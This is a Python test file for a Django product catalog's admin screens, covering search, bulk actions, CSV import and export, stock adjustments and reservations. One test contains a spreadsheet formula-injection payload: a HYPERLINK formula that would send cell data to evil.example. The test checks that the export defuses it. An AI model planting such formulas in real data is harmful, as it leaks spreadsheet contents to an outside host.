"""Operator screens (bulk actions, CSV, stock adjustment with a reason, reservations); demo data."""

from decimal import Decimal
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from contexts.catalog import api
from contexts.catalog.models import Movement, Product, Stock
from integration.bus.models import OutboxMessage
from tests.catalog.conftest import make_product

pytestmark = pytest.mark.django_db


def test_the_product_list_searches_filters_and_shows_stock(admin_client, tree):
    make_product("KNIFE-1", name="Chef knife", stock=4, category="cutlery")
    make_product("HOSE-1", name="Garden hose", category="garden")
    response = admin_client.get("/admin/catalog/product/", {"q": "knife"})
    assert response.status_code == 200
    assert b"KNIFE-1" in response.content
    assert b"HOSE-1" not in response.content
    assert admin_client.get("/admin/catalog/product/", {"is_active__exact": "1"}).status_code == 200
    assert admin_client.get("/admin/catalog/product/KNIFE-1/change/".replace("KNIFE-1", "1")).status_code in (
        200,
        302,
    )


def test_bulk_deactivate_goes_through_the_service_and_publishes(admin_client, tree):
    make_product("A-1")
    make_product("B-1")
    ids = list(Product.objects.values_list("pk", flat=True))
    response = admin_client.post(
        "/admin/catalog/product/", {"action": "deactivate", "_selected_action": ids}, follow=True
    )
    assert response.status_code == 200
    assert not Product.objects.filter(is_active=True).exists()
    assert OutboxMessage.objects.filter(type="catalog.ProductDeactivated.v1").count() == 2
    admin_client.post("/admin/catalog/product/", {"action": "activate", "_selected_action": ids})
    assert Product.objects.filter(is_active=True).count() == 2


def test_csv_export_then_import_round_trips(admin_client, tree):
    make_product("A-1", name="Alpha", price="1.50", category="kitchen")
    ids = list(Product.objects.values_list("pk", flat=True))
    exported = admin_client.post("/admin/catalog/product/", {"action": "export_csv", "_selected_action": ids})
    assert exported["Content-Type"].startswith("text/csv")
    text = exported.content.decode()
    assert text.splitlines()[0] == "sku,name,slug,description,price,currency,category,active"
    changed = text.replace("Alpha", "Alpha II").replace("1.50", "2.00") + "B-2,Beta,,,3.00,EUR,garden,true\n"
    upload = SimpleUploadedFile("products.csv", changed.encode(), content_type="text/csv")
    response = admin_client.post("/admin/catalog/product/import-csv/", {"file": upload})
    assert response.status_code == 302, response.content
    assert Product.objects.get(sku="A-1").price == Decimal("2.00")
    assert Product.objects.get(sku="B-2").category.slug == "garden"
    assert OutboxMessage.objects.filter(type="catalog.ProductPriceChanged.v1").count() == 1


def test_a_csv_with_a_bad_row_imports_nothing(admin_client, tree):
    csv = "sku,name,price,currency\nOK-1,Fine,1.00,EUR\nBAD-1,Broken,abc,EUR\n"
    upload = SimpleUploadedFile("products.csv", csv.encode(), content_type="text/csv")
    response = admin_client.post("/admin/catalog/product/import-csv/", {"file": upload})
    assert response.status_code == 200
    assert b"Line 3: price" in response.content
    assert not Product.objects.exists()


def test_a_csv_without_optional_columns_leaves_those_fields_alone(admin_client, tree):
    make_product("OLD-1", name="Old", category="kitchen")
    Product.objects.filter(sku="OLD-1").update(is_active=False)
    csv = "sku,name,price,currency\nOLD-1,Old but renamed,4.00,EUR\n"
    upload = SimpleUploadedFile("products.csv", csv.encode(), content_type="text/csv")
    assert admin_client.post("/admin/catalog/product/import-csv/", {"file": upload}).status_code == 302
    product = Product.objects.get(sku="OLD-1")
    assert product.name == "Old but renamed"
    assert product.is_active is False  # not reactivated by a file that says nothing about it
    assert product.category.slug == "kitchen"  # not cleared either


def test_products_cannot_be_deleted_only_deactivated(admin_client, tree):
    make_product("KEEP-1")
    pk = Product.objects.get(sku="KEEP-1").pk
    assert admin_client.get(f"/admin/catalog/product/{pk}/delete/").status_code == 403
    response = admin_client.post(
        "/admin/catalog/product/", {"action": "delete_selected", "_selected_action": [pk]}, follow=True
    )
    assert response.status_code == 200
    assert Product.objects.filter(sku="KEEP-1").exists()


def test_stock_is_adjusted_with_a_required_reason_written_to_the_ledger(admin_client, db):
    make_product("A-1", stock=2)
    url = "/admin/catalog/stock/A-1/change/"
    assert admin_client.get(url).status_code == 200
    no_reason = admin_client.post(url, {"delta": 3, "kind": "receipt", "reason": ""})
    assert no_reason.status_code == 200  # the form is shown again with an error
    assert Stock.objects.get(pk="A-1").on_hand == 2
    response = admin_client.post(url, {"delta": 3, "kind": "receipt", "reason": "delivery 7"})
    assert response.status_code == 302
    assert Stock.objects.get(pk="A-1").on_hand == 5
    movement = Movement.objects.filter(stock_id="A-1").first()
    assert (movement.kind, movement.on_hand_delta, movement.reason) == ("receipt", 3, "delivery 7")
    assert movement.actor.startswith("admin:")


def test_active_reservations_are_listed_and_can_be_released(admin_client, db):
    make_product("A-1", stock=5)
    api.stock_reserve(key="saga-1:reserve", lines=[api.StockLine(sku="A-1", quantity=2)], ttl=600)
    api.stock_reserve(key="saga-2:reserve", lines=[api.StockLine(sku="A-1", quantity=1)], ttl=600)
    api.stock_release(key="saga-2:reserve")
    page = admin_client.get("/admin/catalog/reservation/")
    assert b"saga-1:reserve" in page.content
    assert b"saga-2:reserve" not in page.content  # released: not active
    assert b"saga-2:reserve" in admin_client.get("/admin/catalog/reservation/", {"status": "all"}).content


def test_seed_demo_creates_a_browsable_catalog_once(api_client, settings):
    settings.DEBUG = True
    call_command("seed_demo", stdout=StringIO())
    call_command("seed_demo", stdout=StringIO())
    body = api_client.get("/api/v1/products/", {"category": "electronics", "in_stock": "true"}).json()
    assert body["count"] >= 3
    assert all(p["available"] > 0 for p in body["results"])
    assert Product.objects.count() == 12
    assert api_client.get("/api/v1/categories/").json()


def test_csv_export_writes_formula_like_text_as_text(admin_client, tree):
    # OWASP CSV injection: a spreadsheet opening the export must not run a product's name.
    make_product("F-1", name='=HYPERLINK("http://evil.example/?x="&A1,"click")', price="1.00")
    ids = list(Product.objects.values_list("pk", flat=True))
    exported = admin_client.post("/admin/catalog/product/", {"action": "export_csv", "_selected_action": ids})
    row = exported.content.decode().splitlines()[1]
    assert row.startswith("F-1,\"'=HYPERLINK(")


def test_a_csv_with_a_repeated_column_imports_nothing(admin_client, tree):
    csv = "sku,name,price,currency,price\nOK-1,Fine,1.00,EUR,2.00\n"
    upload = SimpleUploadedFile("products.csv", csv.encode(), content_type="text/csv")
    response = admin_client.post("/admin/catalog/product/import-csv/", {"file": upload})
    assert response.status_code == 200
    assert b"Repeated column(s): price" in response.content
    assert not Product.objects.exists()
